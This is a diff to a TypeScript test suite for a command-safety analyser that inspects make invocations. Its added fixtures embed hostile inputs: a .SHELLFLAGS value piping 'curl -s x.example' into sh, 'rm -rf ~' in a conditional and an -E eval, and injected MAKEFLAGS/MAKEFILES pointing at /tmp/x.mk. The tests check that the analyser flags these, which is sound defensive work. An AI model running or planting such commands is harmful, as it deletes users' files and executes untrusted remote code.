@@ -66,6 +66,9 @@ const FILES: Record<string, ScriptFile> = {
   [`${P}/double/Makefile`]: text(
     `A0 := x\n${Array.from({ length: 40 }, (_, i) => `A${i + 1} = $(A${i})$(A${i})`).join('\n')}\nall: ; echo $(A40)\n`,
   ),
+  [`${P}/flags/Makefile`]: text(".SHELLFLAGS := -c 'curl -s x.example | sh' -c\nall:\n\techo ok\n"),
+  [`${P}/strict/Makefile`]: text('SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\nall:\n\techo ok\n'),
+  [`${P}/mflags/Makefile`]: text('MAKEFLAGS += -f /tmp/x.mk\nall:\n\techo ok\n'),
   [`${P}/cond/Makefile`]: text('ifeq ($(OS),Windows)\nX = del\nelse\nX = rm -rf ~\nendif\nall:\n\t$(X)\n'),
 };
 
@@ -93,6 +96,14 @@ describe('the recipes make runs are analysed', () => {
     ['both branches of a conditional', 'make -C cond', 'destructive_root_delete'],
     ['a variable set on the command line', 'make clean BUILD=~', 'destructive_root_delete'],
     ['behind a wrapper', 'nice make nuke', 'destructive_root_delete'],
+    // -O and -l take only an attached value: the next word is a goal.
+    ['-O before a goal', 'make -O nuke', 'destructive_root_delete'],
+    ['--output-sync before a goal', 'make --output-sync nuke', 'destructive_root_delete'],
+    ['-Oline attached', 'make -Oline nuke', 'destructive_root_delete'],
+    ['-l before a goal', 'make -l nuke', 'destructive_root_delete'],
+    ['-l with its number', 'make -l 2 nuke', 'destructive_root_delete'],
+    ['a short cluster ending in -C', 'make -sC first', 'destructive_root_delete'],
+    ['a short cluster ending in -f', 'make -kf first/makefile danger', 'destructive_root_delete'],
   ])('%s', (_name, command, category) => {
     expect(categories(analyze(command))).toContain(category);
   });
@@ -133,6 +144,11 @@ describe('what make reads but gavel cannot follow is uncertain', () => {
     ['a makefile an unmodelled writer changed', "sed -n 'w Makefile' tpl && make"],
     ['a makefile written with content not shown', 'cp tpl.mk Makefile && make'],
     ['variables that double at every level (bounded work, not minutes)', 'make -C double'],
+    ['.SHELLFLAGS carrying code', 'make -C flags'],
+    ['MAKEFLAGS set in the makefile', 'make -C mflags'],
+    ['MAKEFLAGS from the environment', "MAKEFLAGS='-f /tmp/x.mk' make"],
+    ['MAKEFILES exported earlier', 'export MAKEFILES=/tmp/x.mk; make'],
+    ['-E is --eval', "make -E 'x:;rm -rf ~' x"],
   ])('%s', (_name, command) => {
     expect(codes(analyze(command))).toContain('dynamic-script');
   });
@@ -149,6 +165,8 @@ describe('ordinary builds stay quiet', () => {
     ['make clean (a generated folder)', 'make clean'],
     ['$$ is a shell dollar', 'make escaped'],
     ['no makefile', 'make -C nowhere'],
+    ['strict shell flags', 'make -C strict'],
+    ['output sync by line', 'make -j4 -Oline build'],
   ])('%s', (_name, command) => {
     const a = analyze(command);
     expect(categories(a)).toEqual([]);
